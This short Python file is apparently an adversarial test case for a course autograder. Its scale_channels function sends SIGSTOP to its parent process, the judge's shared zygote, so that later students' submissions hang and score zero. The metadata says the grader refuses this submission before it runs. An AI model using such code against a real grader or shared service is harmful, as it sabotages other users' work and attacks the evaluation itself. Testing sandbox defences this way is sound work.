"""Stops the process that forked it (the judge's zygote, which serves the next students too) with
SIGSTOP, so that every later submission of the class would hang and get 0."""

MODULE = "m03_broadcasting"
ATTACKED = ("3.3",)
FORGES_SCORE = True  # at both tiers the next student must not pay: a stopped zygote is replaced
REFUSED = "module"  # by the reflection rule, before it runs

import os
import signal

import torch


def scale_channels(img, scale):
    parent = os.getppid()
    if parent > 1:  # in the full sandbox the zygote is not even visible (getppid() is 0)
        try:
            os.kill(parent, signal.SIGSTOP)
        except OSError:
            pass
    return torch.zeros_like(img)
